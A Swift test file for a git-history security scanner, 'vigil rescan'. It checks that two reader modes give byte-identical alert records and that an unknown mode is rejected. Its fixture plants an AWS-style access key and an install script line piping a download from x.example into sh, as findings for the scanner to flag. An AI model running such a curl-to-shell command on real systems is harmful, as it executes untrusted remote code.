import Foundation
import Testing
import VigilTestSupport

/// `vigil rescan` with Vigil's own readers and with libgit2's alone (`VIGIL_GIT_READER`): the same
/// records, alert ids included, byte for byte.
@Suite(.timeLimit(.minutes(10)))
struct ReadModeRescanTests {
    private func rescan(_ path: String, mode: String) throws -> ProcessResult {
        try VigilBinary.run(
            ["rescan", path, "--all", "--scope", "all", "--format", "json", "--dry-run"],
            environment: ["VIGIL_GIT_READER": mode])
    }

    @Test func aGeneratedHistoryGivesTheSameRecordsInBothModes() throws {
        let fixture = try FixtureRepository()
        try GeneratedHistory.write(commits: 2000, into: fixture)
        // Findings on many lines: secrets, risky patterns, an AI co-author.
        try fixture.commit(
            "Wire up storage\n\nCo-Authored-By: Claude Sonnet 4.5 <noreply@anthropic.com>\n",
            files: [
                "config/prod.py": "BUCKET = 'x'\n\naws_access_key_id = \"AKIAQYLPMN5HHHFPZAM2\"\n}\n",
                "install.sh": "}\n\ncurl https://x.example/i.sh | sh\n}\n",
            ])
        let fast = try rescan(fixture.path, mode: "fast")
        let reference = try rescan(fixture.path, mode: "reference")
        #expect(fast.status == 1, "\(fast.stderr)")
        #expect(reference.status == fast.status, "\(reference.stderr)")
        let alerts = try fast.jsonLines().filter { $0["kind"] as? String == "alert" }
        #expect(alerts.count >= 2)
        #expect(try comparable(fast) == comparable(reference))
    }

    /// The records with the clock taken out (each alert's time, the summary's run time).
    private func comparable(_ result: ProcessResult) throws -> [String] {
        try result.jsonLines().map { record in
            var record = record
            record["time"] = nil
            if record["kind"] as? String == "summary" { record["seconds"] = nil }
            let data = try JSONSerialization.data(withJSONObject: record, options: [.sortedKeys])
            return String(decoding: data, as: UTF8.self)
        }
    }

    @Test func anUnknownModeIsRefusedByName() throws {
        let fixture = try FixtureRepository()
        try fixture.commit("one", files: ["a.txt": "a\n"])
        let result = try rescan(fixture.path, mode: "fastest")
        #expect(result.status != 0)
        #expect(result.stderr.contains("VIGIL_GIT_READER"), "\(result.stderr)")
    }
}
